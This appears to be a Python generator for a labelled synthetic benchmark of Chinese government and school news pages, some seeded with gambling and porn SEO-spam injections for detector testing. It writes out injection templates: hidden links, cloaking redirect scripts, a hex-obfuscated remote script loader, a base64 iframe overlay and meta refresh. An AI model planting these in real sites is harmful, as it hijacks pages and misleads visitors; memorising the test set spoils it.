"""synthetic-v25: 40 pages (28 hijacked, 8 clean, 4 legit) in 6 invented CMS shells.
Fixed seed; re-running writes byte-identical files.  Usage: python make_set.py [OUTDIR]"""
import html as H
import json
import os
import random
import sys

SEED = 2525
OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "synthetic-v25")

ORGS = [("tongshan.gov.cn", "桐山县人民政府", "桐山县农业农村局"), ("qinglan.gov.cn", "青澜市人民政府", "青澜市住房和城乡建设局"),
        ("mzxy.edu.cn", "闽中学院", "闽中学院宣传部"), ("yuanhe.gov.cn", "沅河区人民政府", "沅河区卫生健康局"),
        ("lcvtc.edu.cn", "临川职业技术学院", "临川职业技术学院新闻中心"), ("baixi.gov.cn", "白溪镇人民政府", "白溪镇党政办"),
        ("hsjyj.gov.cn", "鹤水市教育局", "鹤水市教育局办公室"), ("nanpo.gov.cn", "南坡县人民政府", "南坡县应急管理局")]
AUTHORS = ["陈立新", "王晓岚", "刘舒", "赵国栋", "黄一鸣", "周婷", "孙卫平", "林静", "郑海涛", "吴桐"]

ARTICLES = [
    ("{org}召开秋冬季安全生产工作部署会", ["{d}上午，{org}召开秋冬季安全生产工作部署会，传达学习上级有关会议精神，分析当前安全生产形势。",
      "会议要求，各单位要压紧压实安全生产责任，聚焦道路交通、燃气、自建房、森林防火等重点领域，深入开展隐患排查整治。",
      "会议强调，要严格落实领导带班和24小时值班值守制度，遇有突发情况及时报告、妥善处置，确保人民群众生命财产安全。"]),
    ("{org}举办2025年度新任教师岗前培训", ["为帮助新任教师尽快转变角色、适应岗位，{d}，{org}举办2025年度新任教师岗前培训，共有86名新教师参加。",
      "培训为期三天，内容涵盖师德师风、课堂教学设计、班级管理和信息化教学等方面，邀请一线骨干教师现场授课。",
      "参训教师纷纷表示，将以此次培训为起点，潜心教书育人，努力成为学生喜爱的好老师。"]),
    ("{org}开展高标准农田建设项目验收", ["{d}，{org}组织专家组对2024年度高标准农田建设项目开展竣工验收。",
      "验收组通过查阅资料、实地踏勘、随机抽测等方式，对项目区的土地平整、灌溉排水、田间道路等工程进行了全面检查。",
      "经综合评定，项目建设内容基本完成，工程质量符合设计要求，同意通过验收。下一步将做好工程管护，确保长期发挥效益。"]),
    ("{org}推进老旧小区改造惠民工程", ["今年以来，{org}将老旧小区改造作为重点民生实事，计划改造小区23个，惠及居民4100余户。",
      "改造坚持“先民生后提升”，优先实施管网更新、外墙保温、加装电梯、停车设施等项目，{d}已有15个小区完成主体施工。",
      "工作人员介绍，改造过程中广泛听取居民意见，做到一小区一方案，让群众住得更安心、更舒心。"]),
    ("{org}开展“健康义诊进乡村”活动", ["{d}，{org}组织辖区医疗机构医务人员走进乡村，开展“健康义诊进乡村”活动。",
      "活动现场，医务人员为群众测量血压、血糖，提供健康咨询，并发放慢性病防治宣传资料600余份。",
      "此次活动共服务群众300余人次，把优质医疗服务送到群众家门口，受到村民好评。"]),
    ("{org}召开学生资助工作推进会", ["{d}，{org}召开学生资助工作推进会，总结上半年资助工作，部署秋季学期资助任务。",
      "会议指出，要精准认定家庭经济困难学生，规范资金发放流程，确保资助资金及时足额发放到受助学生手中。",
      "会议要求，各校要加强资助育人，把物质帮助与精神激励结合起来，帮助困难学生健康成长。"]),
    ("{org}组织开展防汛应急演练", ["为提升防汛抢险实战能力，{d}，{org}在河道堤防段组织开展防汛应急演练。",
      "演练模拟强降雨导致堤防出现管涌险情，抢险队伍迅速集结，开展险情巡查、人员转移、装袋堵漏等科目。",
      "演练结束后，现场进行了点评总结，要求各单位查漏补缺，完善预案，确保安全度汛。"]),
    ("{org}举办第十二届校园科技文化节", ["{d}，{org}第十二届校园科技文化节开幕，本届科技节以“创新点亮未来”为主题。",
      "科技节期间将举办机器人竞赛、创新作品展、科普讲座等活动20余项，吸引全校师生积极参与。",
      "学校负责人表示，将以科技节为契机，进一步激发学生的创新意识和实践能力。"]),
    ("{org}启动农村人居环境整治专项行动", ["{d}，{org}召开动员会，启动为期三个月的农村人居环境整治专项行动。",
      "行动聚焦垃圾清理、污水治理、村容村貌提升等重点任务，实行周调度、月通报制度。",
      "动员会要求，各村要发动群众广泛参与，做到清理一处、巩固一处，切实改善农村人居环境。"]),
    ("{org}召开民营企业座谈会", ["{d}，{org}召开民营企业座谈会，听取企业发展中遇到的困难和问题。",
      "座谈会上，12家企业负责人围绕融资、用工、用地等方面提出意见建议，相关部门负责同志现场逐一回应。",
      "会议强调，要持续优化营商环境，当好服务企业的“店小二”，推动民营经济高质量发展。"]),
]
LEGIT = [
    ("关于规范福利彩票销售场所管理的通知", ["为加强福利彩票销售场所管理，维护彩票市场秩序，现就有关事项通知如下。",
      "一、各销售站点应在醒目位置张贴“禁止向未成年人销售彩票”“理性购彩”等提示标识，不得以任何形式向未成年人销售彩票。",
      "二、严禁在销售场所开展或变相开展网络销售、电话销售彩票业务，严禁代购、赊销和信用投注。",
      "三、各县区福彩中心要加强日常巡查，对违规站点依规处理，情节严重的依法暂停或终止其代销资格。"]),
    ("我市警方通报一起开设赌场案件查处情况", ["近日，市公安局治安支队会同属地派出所，成功打掉一个利用网络平台组织赌博的犯罪团伙，抓获犯罪嫌疑人7名。",
      "经查，该团伙通过聊天群招揽人员参与网络赌博，涉案流水达300余万元。目前，7名犯罪嫌疑人已被依法采取刑事强制措施。",
      "警方提醒，网络赌博是违法犯罪行为，广大群众要自觉抵制，发现涉赌线索请及时向公安机关举报。"]),
    ("体育彩票公益金助力全民健身设施建设", ["记者从市体育局获悉，今年全市使用体育彩票公益金新建和更新全民健身路径48条、笼式足球场6片。",
      "体育彩票公益金是按规定从彩票销售额中提取的专项资金，主要用于群众体育和竞技体育事业。",
      "市体育局负责人表示，将进一步加强公益金项目管理，及时公开资金使用情况，接受社会监督。"]),
    ("学校开展“拒绝网络赌博”主题教育活动", ["为增强学生防范意识，{d}，学校在全校范围内开展“拒绝网络赌博”主题教育活动。",
      "活动通过案例讲解、视频展播、签名承诺等形式，揭示网络赌博“十赌九骗”的本质和危害，提醒学生警惕游戏充值、刷单返利等诱导陷阱。",
      "学生们纷纷表示，将远离网络赌博，并主动向家人宣传防范知识。"]),
]

# invented brands (checked against every spam_strings entry of dev/, heldout/ and pending-v23/)
BRANDS = ["金橡树娱乐城", "鼎丰国际娱乐", "青梧阁棋牌", "海棠湾彩票网", "盛唐皇冠体育", "琥珀宫真人",
          "银河舟电竞竞猜", "紫鲸娱乐平台", "鎏金港国际", "翡翠湖百家乐"]
DOMS = ["jxs8826.vip", "dfgj5590.com", "ydxh77.cc", "htw3301.net", "stzhg889.com", "hpg6678.top",
        "yhz9911.xyz", "zjyl2255.com", "ljg6161.cc", "fch8383.vip"]
PORN = ["日韩无码高清在线观看", "午夜福利影院免费看", "国产精品偷拍视频合集"]


def esc(s):
    return H.escape(s, quote=False)


# ---------------- injections: each returns (head_html, before_body, in_body_top, in_body_bottom, after_body, title_override, spam)
def inj(form, rnd, b, dom):
    h = dict(head="", pre="", top="", mid="", bottom="", post="", title=None, spam=[])
    if form == "hidden-div-links":
        links = "".join('<a href="https://%s/?k=%d">%s</a>' % (dom, i, t) for i, t in enumerate([b, b + "官网", b + "注册送彩金"]))
        h["post"] = '<div style="position:absolute;top:-999px;left:-999px">%s</div>' % links
        h["spam"] = [b, b + "注册送彩金"]
    elif form == "ua-cloak-script":
        h["head"] = ('<script>var ua=navigator.userAgent.toLowerCase();if(/baiduspider|sogou|360spider/.test(ua)){}'
                     'else if(/iphone|android|mobile/.test(ua)){window.location.href="https://m.%s/";}</script>' % dom)
        h["spam"] = ["m." + dom]
    elif form == "referrer-cloak-script":
        h["head"] = ('<script type="text/javascript">(function(){var r=document.referrer;if(r.indexOf("baidu.")>-1||r.indexOf("sm.cn")>-1){'
                     'document.title="%s-官方网站";top.location.replace("https://www.%s/");}})();</script>' % (b, dom))
        h["spam"] = [b + "-官方网站", dom]
    elif form == "hex-js-loader":
        src = "https://js.%s/c.js" % dom
        hx = "".join("\\x%02x" % ord(c) for c in src)
        h["bottom"] = ('<script>var _0x1a=["%s","script","createElement","src","appendChild"];'
                       'var s=document[_0x1a[2]](_0x1a[1]);s[_0x1a[3]]=_0x1a[0];document.body[_0x1a[4]](s);</script>'
                       '<!-- %s -->' % (hx, "js." + dom))
        h["spam"] = ["js." + dom]
    elif form == "charcode-js-loader":
        src = '<a href="https://%s/">%s</a>' % (dom, b)
        codes = ",".join(str(ord(c)) for c in src)
        h["mid"] = '<script>document.write(String.fromCharCode(%s));</script><noscript><a href="https://%s/">%s</a></noscript>' % (codes, dom, b)
        h["spam"] = [b]
    elif form == "document-write-spam":
        h["top"] = ('<script language="javascript">document.write(\'<div style="display:none">\');document.write(\'<a href="https://%s/">%s</a>'
                    '<a href="https://%s/m/">%s手机版</a>\');document.write(\'</div>\');</script>' % (dom, b, dom, b))
        h["spam"] = [b, b + "手机版"]
    elif form == "spam-title":
        h["title"] = "%s_%s官网入口_%s" % (b, b[:2], dom)
        h["spam"] = [b, dom]
    elif form == "keyword-stuffed-title":
        kw = [b, b[:2] + "开户", "真人荷官视讯", "在线体育投注", "电子游艺平台"]
        h["title"] = ",".join(kw)
        h["head"] = '<meta name="keywords" content="%s"><meta name="description" content="%s是亚洲最大的在线娱乐平台">' % (",".join(kw), b)
        h["spam"] = [b, "真人荷官视讯", "在线体育投注"]
    elif form == "spam-line-in-body":
        h["mid"] = '<p>【%s】%s，首存即送188%%，网址：www.%s</p>' % (b, b, dom)
        h["spam"] = ["【%s】" % b, "www." + dom]
    elif form == "brand-credit-footer":
        h["post"] = '<div class="foot-credit">技术支持：<a href="https://%s/">%s</a></div>' % (dom, b)
        h["spam"] = [b]
    elif form == "sold-friendlinks":
        names = [b, BRANDS[(BRANDS.index(b) + 3) % len(BRANDS)], "澳门正规赌场网址", "北京赛车pk10"]
        h["post"] = '<div class="yqlj"><span>友情链接：</span>%s</div>' % "".join(
            '<a href="https://%s/%d.html" target="_blank">%s</a> ' % (dom, i, n) for i, n in enumerate(names))
        h["spam"] = names
    elif form == "meta-refresh":
        h["head"] = '<meta http-equiv="refresh" content="3;url=https://www.%s/?from=gov">' % dom
        h["spam"] = [dom]
    elif form == "porn-keyword-line":
        p = rnd.sample(PORN, 2)
        h["bottom"] = '<p style="font-size:1px;color:#fff">%s %s</p>' % (p[0], p[1])
        h["spam"] = p
    elif form == "marquee-offscreen-links":
        h["pre"] = '<marquee width="1" height="1" scrollamount="10000" style="overflow:hidden"><a href="https://%s/">%s</a> <a href="https://%s/app/">%sAPP下载</a></marquee>' % (dom, b, dom, b)
        h["spam"] = [b, b + "APP下载"]
    elif form == "base64-atob-iframe":
        import base64
        pay = '<iframe src="https://%s/" style="position:fixed;top:0;left:0;width:100%%;height:100%%;border:0;z-index:99999"></iframe>' % dom
        h["bottom"] = '<script>document.write(atob("%s"));</script><span style="display:none">%s</span>' % (base64.b64encode(pay.encode()).decode(), b)
        h["spam"] = [b]
    return h


FORMS = ["hidden-div-links", "ua-cloak-script", "referrer-cloak-script", "hex-js-loader", "charcode-js-loader",
         "document-write-spam", "spam-title", "keyword-stuffed-title", "spam-line-in-body", "brand-credit-footer",
         "sold-friendlinks", "meta-refresh", "porn-keyword-line", "marquee-offscreen-links"]


# ---------------- six templates
def byline(t, rnd, a):
    d, src, au, views = a["date"], a["source"], a["author"], rnd.randint(120, 4800)
    if t == 0:
        return '<div class="wz-xx"><span>时间：%s</span>　<span>信息来源：%s</span>　<span>撰稿：%s</span>　<span>阅读：%d</span></div>' % (d, src, au, views)
    if t == 1:
        return ('<table class="gk-meta" border="0"><tr><th>索引号</th><td>1133%04d/2025-%05d</td><th>发布机构</th><td>%s</td></tr>'
                '<tr><th>发文日期</th><td>%s</td><th>来源</th><td>%s</td></tr></table><p class="gk-author">作者：%s</p>'
                % (rnd.randint(1000, 9999), rnd.randint(1, 99999), src, d, src, au))
    if t == 2:
        return '<p class="art-by">%s &nbsp;|&nbsp; 来源: %s &nbsp;|&nbsp; 作者: %s &nbsp;|&nbsp; 点击数: %d</p>' % (d, src, au, views)
    if t == 3:
        return '<ul class="info-row"><li>发布日期：%s</li><li>文章来源：%s</li><li>作者：%s</li></ul>' % (d.replace("-", "/"), src, au)
    if t == 4:
        return '<div class="tit-sub">【来源：%s】【作者：%s】【发布时间：%s】【浏览次数：<span id="hits">%d</span>】</div>' % (src, au, d, views)
    return '<div class="news_meta">發佈時間：%s　來源：%s　作者：%s</div>' % (d, src, au)


TEMPLATES = [("yunzheng", "utf-8"), ("gk-table", "gbk"), ("campus-slim", "utf-8"), ("dist-portal", "gb18030"),
             ("xinwen-bracket", "utf-8"), ("trad-county", "utf-8")]


def render(t, rnd, a, h):
    org, site = a["org"], a["site"]
    title = h["title"] or "%s_%s" % (a["title"], org)
    charset = TEMPLATES[t][1]
    paras = ["<p>%s</p>" % esc(p) for p in a["paras"]]
    mid = len(paras) // 2 + 1
    body = "\n".join(paras[:mid]) + ("\n" + h["mid"] if h["mid"] else "") + "\n" + "\n".join(paras[mid:])
    nav = "".join('<a href="/%s/">%s</a>' % (k, v) for k, v in [("index", "首页"), ("zwdt", "政务动态" if t != 2 else "学校要闻"),
                                                                ("gsgg", "通知公告"), ("zwgk", "信息公开"), ("hdjl", "互动交流")])
    head = ('<!DOCTYPE html>\n<html lang="zh-CN">\n<head>\n<meta charset="%s">\n<title>%s</title>\n%s\n'
            '<link rel="stylesheet" href="/static/%s/style.css">\n</head>\n' % (charset, esc(title), h["head"], TEMPLATES[t][0]))
    top = '<div class="topbar">%s欢迎您！今天是<span id="today"></span></div>\n<div class="logo"><img src="/static/logo.png" alt="%s"></div>\n<div class="nav">%s</div>\n' % (org, org, nav)
    crumbs = '<div class="weizhi">当前位置：<a href="/">首页</a> &gt; <a href="/zwdt/">%s</a> &gt; 正文</div>\n' % ("政务动态" if t != 2 else "学校要闻")
    art = ('<div class="art">\n%s<h1 class="art-title">%s</h1>\n%s\n<div class="art-content" id="zoom">\n%s\n%s\n</div>\n'
           '<div class="art-tools">【<a href="javascript:window.print()">打印本页</a>】【<a href="javascript:window.close()">关闭窗口</a>】</div>\n</div>\n'
           % (h["top"], esc(a["title"]), byline(t, rnd, a), body, h["bottom"]))
    side = '<div class="side"><h3>相关链接</h3><ul><li><a href="/zwgk/">政府信息公开</a></li><li><a href="/hdjl/">领导信箱</a></li></ul></div>\n'
    foot = ('<div class="footer"><p>主办：%s　承办：%s</p><p>网站标识码：%d　<a href="https://beian.miit.gov.cn/">备案号：X ICP备%08d号</a></p></div>\n'
            % (org, a["source"], rnd.randint(1000000000, 9999999999), rnd.randint(10000000, 99999999)))
    if t in (1, 3):
        layout = '<div class="wrap">\n' + top + crumbs + '<div class="main">\n' + side + art + '</div>\n' + foot + '</div>\n'
    elif t == 5:
        layout = '<table width="980" align="center"><tr><td>\n' + top + crumbs + art + side + foot + '</td></tr></table>\n'
    else:
        layout = '<div class="page">\n' + top + crumbs + art + side + foot + '</div>\n'
    return head + "<body>\n" + h["pre"] + layout + h["post"] + "\n</body>\n</html>\n"




def main():
    rnd = random.Random(SEED)
    os.makedirs(os.path.join(OUT, "html"), exist_ok=True)
    specs = []
    for i, f in enumerate(FORMS):
        for k in range(2):
            specs.append(("hij", f))
    for _ in range(8):
        specs.append(("clean", None))
    for _ in range(4):
        specs.append(("legit", None))
    rnd.shuffle(specs)
    second = ["hidden-div-links", "porn-keyword-line", "sold-friendlinks", "brand-credit-footer"]
    rows = []
    nsec = 0
    for n, (kind, form) in enumerate(specs, 1):
        pid = "sy25-%03d" % n
        t = n % 6
        org = ORGS[rnd.randrange(len(ORGS))]
        site, orgname, src = org
        m, d = rnd.randint(1, 11), rnd.randint(1, 28)
        date = "2025-%02d-%02d" % (m, d)
        dtxt = "%d月%d日" % (m, d)
        if kind == "legit":
            lt, lp = LEGIT[[s[0] for s in specs[:n]].count("legit") - 1]
            title, paras = lt, [p.format(d=dtxt) for p in lp]
        else:
            at, ap = ARTICLES[rnd.randrange(len(ARTICLES))]
            title, paras = at.format(org=orgname), [p.format(org=orgname, d=dtxt) for p in ap]
        a = dict(org=orgname, site=site, date=date, source=src, author=rnd.choice(AUTHORS), title=title, paras=paras)
        h = dict(head="", pre="", top="", mid="", bottom="", post="", title=None, spam=[])
        forms = []
        if kind == "hij":
            bi = rnd.randrange(len(BRANDS))
            h = inj(form, rnd, BRANDS[bi], DOMS[bi])
            forms = [form]
            if nsec < 4 and n % 3 == 0 and form not in second:
                f2 = second[nsec]
                nsec += 1
                bj = (bi + 1) % len(BRANDS)
                h2 = inj(f2, rnd, BRANDS[bj], DOMS[bj])
                for k in ("head", "pre", "top", "mid", "bottom", "post"):
                    h[k] += h2[k]
                h["spam"] += [s for s in h2["spam"] if s not in h["spam"]]
                forms.append(f2)
        page = render(t, rnd, a, h)
        enc = TEMPLATES[t][1]
        with open(os.path.join(OUT, "html", pid + ".html"), "wb") as fh:
            fh.write(page.encode(enc))
        rows.append(dict(id=pid, url="https://www.%s/zwdt/2025%02d/t2025%02d%02d_%d.html" % (site, m, m, d, 700000 + n),
                         title=title, date=date, source=src, author=a["author"], text="\n".join(paras),
                         hijacked=kind == "hij", injections=forms, spam_strings=h["spam"], legit=kind == "legit",
                         lang="zh", origin="synthetic-generator-v25", kind="synthetic", site=site,
                         capture="html", encoding=enc, template=TEMPLATES[t][0]))
    with open(os.path.join(OUT, "truth.jsonl"), "w", encoding="utf-8", newline="\n") as fh:
        for r in rows:
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
